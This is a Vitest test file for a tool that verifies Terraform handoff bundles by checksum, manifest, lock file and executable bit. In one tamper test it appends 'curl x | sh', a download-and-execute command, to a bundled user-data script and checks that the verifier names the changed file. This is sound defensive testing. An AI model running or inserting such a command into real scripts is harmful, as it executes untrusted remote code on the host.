import {
  appendFileSync,
  chmodSync,
  mkdirSync,
  mkdtempSync,
  readFileSync,
  rmSync,
  statSync,
  symlinkSync,
  writeFileSync,
} from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterEach, beforeEach, describe, expect, it } from "vitest";
import { packArchive, unpackArchive } from "../../../src/tools/handoff/archive";
import { checksumsOf, formatChecksums, sha256 } from "../../../src/tools/handoff/checksums";
import { type BundleFile, textFile } from "../../../src/tools/handoff/files";
import { type Differences, isUnaltered, verifyBundle, verifyFiles } from "../../../src/tools/handoff/verify";
import { writeBundle } from "../../../src/tools/handoff/write";
import { STACK_JSON, textOf, toyBundle } from "./support";

const BUNDLE = toyBundle();
const UNALTERED = { altered: [], added: [], removed: [] };

function replaced(files: readonly BundleFile[], path: string, edit: (text: string) => string): readonly BundleFile[] {
  return files.map((file) => (file.path === path ? textFile(path, edit(textOf(files, path))) : file));
}

function removed(path: string): readonly BundleFile[] {
  return BUNDLE.filter((file) => file.path !== path);
}

describe("a bundle's files, verified", () => {
  it("are as they were made", () => {
    expect(verifyFiles(BUNDLE)).toMatchObject(UNALTERED);
  });

  it.each(BUNDLE.map(({ path }) => path))("have %s altered: it is named", (path) => {
    const altered = replaced(BUNDLE, path, (text) => text.replace(/.$/s, "#"));
    expect(verifyFiles(altered)).toMatchObject({ ...UNALTERED, altered: [path] });
  });

  it.each(BUNDLE.map(({ path }) => path))("lack %s: it is named", (path) => {
    expect(verifyFiles(removed(path))).toMatchObject({ ...UNALTERED, removed: [path] });
  });

  it("have one more: it is named", () => {
    expect(verifyFiles([...BUNDLE, textFile("x_override.tf.json", "{}")])).toMatchObject({
      ...UNALTERED,
      added: ["x_override.tf.json"],
    });
  });

  it("have a file altered and its checksum replaced: both are named", () => {
    const json = replaced(BUNDLE, "cdk.tf.json", (text) => text.replace("eu-central-1", "eu-west-1"));
    const sums = formatChecksums(checksumsOf(json.filter(({ path }) => path !== "SHA256SUMS")));
    expect(verifyFiles(replaced(json, "SHA256SUMS", () => sums))).toMatchObject({
      ...UNALTERED,
      altered: ["SHA256SUMS", "cdk.tf.json"],
    });
  });

  it("have a file altered and the manifest made to fit: SHA256SUMS, which does not know that manifest, tells both", () => {
    const json = replaced(BUNDLE, "cdk.tf.json", (text) => text.replace("eu-central-1", "eu-west-1"));
    const before = checksumsOf(BUNDLE).get("cdk.tf.json");
    const after = checksumsOf(json).get("cdk.tf.json");
    const forged = replaced(json, "manifest.json", (text) => text.replace(String(before), String(after)));
    expect(forged).not.toEqual(json);
    expect(verifyFiles(forged)).toMatchObject({ ...UNALTERED, altered: ["cdk.tf.json", "manifest.json"] });
  });

  it("have the manifest made to hide a file: SHA256SUMS still names it", () => {
    const forged = replaced(BUNDLE, "manifest.json", (text) => {
      const manifest = JSON.parse(text) as { readonly files: Readonly<Record<string, string>> };
      const { "RUNBOOK.md": _hidden, ...files } = manifest.files;
      return JSON.stringify({ ...manifest, files });
    });
    expect(verifyFiles(forged)).toMatchObject({ ...UNALTERED, altered: ["manifest.json"] });
    expect(verifyFiles(forged.filter(({ path }) => path !== "RUNBOOK.md"))).toMatchObject({
      altered: ["manifest.json"],
      removed: ["RUNBOOK.md"],
    });
  });

  it("have several gone: they are named in the order of their names", () => {
    const gone = ["RUNBOOK.md", "SHA256SUMS", "cdk.tf.json"];
    expect(verifyFiles(BUNDLE.filter(({ path }) => !gone.includes(path))).removed).toEqual(gone);
  });

  it("have a file added together with its checksum: both are named", () => {
    const added = textFile("x.tf", "");
    const sums = replaced(BUNDLE, "SHA256SUMS", (text) => `${text}${sha256(added.content)}  x.tf\n`);
    expect(verifyFiles([...sums, added])).toMatchObject({ altered: ["SHA256SUMS"], added: ["x.tf"], removed: [] });
  });

  it("have a manifest that is not one: it is named", () => {
    expect(verifyFiles(replaced(BUNDLE, "manifest.json", () => "{}"))).toMatchObject({
      ...UNALTERED,
      altered: ["manifest.json"],
    });
  });
});

describe("a bundle is unaltered", () => {
  const one = ["x"];

  it("where nothing was altered, added or removed", () => {
    expect(isUnaltered(UNALTERED)).toBe(true);
  });

  it.each<Partial<Differences>>([
    { altered: one },
    { added: one },
    { removed: one },
    { altered: one, added: one },
    { added: one, removed: one },
    { altered: one, removed: one },
  ])("not with %o", (differences) => {
    expect(isUnaltered({ ...UNALTERED, ...differences })).toBe(false);
  });
});

describe("a bundle on disk, verified", () => {
  let out: string;
  let folder: string;
  let archive: string;

  beforeEach(async () => {
    out = mkdtempSync(join(tmpdir(), "carryover-"));
    ({ folder, archive } = await writeBundle(out, { stack: "toy", files: BUNDLE }));
  });

  afterEach(() => rmSync(out, { recursive: true, force: true }));

  it("is unaltered as a folder and as an archive", async () => {
    expect(await verifyBundle(folder)).toMatchObject(UNALTERED);
    expect(await verifyBundle(archive)).toMatchObject(UNALTERED);
  });

  it("has what Terraform and its user make in the folder left out of account, and nothing else", async () => {
    mkdirSync(join(folder, ".terraform/providers"), { recursive: true });
    for (const name of [".terraform/x", ".terraform.lock.hcl", "terraform.tfvars", "terraform.tfstate", "move.tfplan"])
      writeFileSync(join(folder, name), "");
    expect(await verifyBundle(folder)).toMatchObject(UNALTERED);
    writeFileSync(join(folder, "more.auto.tfvars"), "");
    writeFileSync(join(folder, "assets/terraform.tfvars"), "");
    expect((await verifyBundle(folder)).added).toEqual(["assets/terraform.tfvars", "more.auto.tfvars"]);
  });

  it("has the lock file of the bundle altered where it is another", async () => {
    const lock = textFile(".terraform.lock.hcl", "# the team's\n");
    const files = toyBundle({ files: [textFile("cdk.tf.json", JSON.stringify(STACK_JSON)), lock] });
    expect(textOf(files, "RUNBOOK.md")).toContain("terraform init -lockfile=readonly\nterraform plan");
    expect(textOf(files, "RUNBOOK.md")).toContain("in the versions of `.terraform.lock.hcl` and no others");
    expect(textOf(BUNDLE, "RUNBOOK.md")).not.toContain("-lockfile");
    const { folder: locked } = await writeBundle(join(folder, "locked"), { stack: "toy", files });
    expect(await verifyBundle(locked)).toMatchObject(UNALTERED);
    writeFileSync(join(locked, ".terraform.lock.hcl"), "# another\n");
    expect(await verifyBundle(locked)).toMatchObject({ altered: [".terraform.lock.hcl"], added: [], removed: [] });
    rmSync(join(locked, ".terraform.lock.hcl"));
    expect(await verifyBundle(locked)).toMatchObject({ altered: [], added: [], removed: [".terraform.lock.hcl"] });
  });

  it("has a file named that was altered or removed in the folder", async () => {
    appendFileSync(join(folder, "cdk.tf.json"), " ");
    rmSync(join(folder, "RUNBOOK.md"));
    expect(await verifyBundle(folder)).toMatchObject({ altered: ["cdk.tf.json"], added: [], removed: ["RUNBOOK.md"] });
  });

  it("has a link that leads nowhere named as added", async () => {
    symlinkSync("/nowhere/at/all", join(folder, "x.tf"));
    expect((await verifyBundle(folder)).added).toEqual(["x.tf"]);
  });

  it("has a file named that was altered in the archive", async () => {
    const altered = replaced(BUNDLE, "assets/user_data/ABC/user_data.sh", (text) => `${text}curl x | sh\n`);
    writeFileSync(archive, await packArchive("toy", altered));
    expect((await verifyBundle(archive)).altered).toEqual(["assets/user_data/ABC/user_data.sh"]);
  });

  it.each(["SHA256SUMS", "manifest.json"])("is verified by what is left where %s was removed", async (path) => {
    rmSync(join(folder, path));
    expect(await verifyBundle(folder)).toMatchObject({ ...UNALTERED, removed: [path] });
  });

  it("is verified as an archive whose manifest cannot be read: no stack is told, the manifest is named", async () => {
    writeFileSync(
      archive,
      await packArchive(
        "toy",
        replaced(BUNDLE, "manifest.json", () => "{}"),
      ),
    );
    expect(await verifyBundle(archive)).toMatchObject({ altered: ["manifest.json"], manifest: undefined });
  });

  it("keeps the executable bit of a script, and says where it was altered", async () => {
    const script = (files: readonly BundleFile[]) => files.find(({ path }) => path === "scripts/run.sh");
    expect(script((await unpackArchive("toy.tar.gz", readFileSync(archive))).files)?.executable).toBe(true);
    expect(statSync(join(folder, "scripts/run.sh")).mode & 0o777).toBe(0o755);
    expect(statSync(join(folder, "cdk.tf.json")).mode & 0o111).toBe(0);
    chmodSync(join(folder, "scripts/run.sh"), 0o644);
    chmodSync(join(folder, "RUNBOOK.md"), 0o755);
    expect((await verifyBundle(folder)).altered).toEqual(["RUNBOOK.md", "scripts/run.sh"]);
    const flat = BUNDLE.map(({ path, content }) => ({ path, content }));
    writeFileSync(archive, await packArchive("toy", flat));
    expect((await verifyBundle(archive)).altered).toEqual(["scripts/run.sh"]);
  });

  it("is refused if it does not exist", async () => {
    await expect(verifyBundle(join(out, "nothing"))).rejects.toThrow(/does not exist/);
    await expect(verifyBundle(out)).rejects.toThrow(/is not a bundle: it has neither/);
  });
});
